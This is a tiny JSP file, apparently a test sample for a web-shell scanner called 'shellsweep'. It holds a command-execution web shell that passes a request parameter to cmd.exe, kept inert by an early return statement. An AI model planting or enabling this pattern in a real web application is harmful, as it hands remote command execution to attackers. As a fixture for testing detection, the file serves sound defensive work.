<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<%
String c = request.getParameter("c");
String[] a = { "cmd.exe", "/c", c };
Process p = Runtime.getRuntime().exec(a);
%>
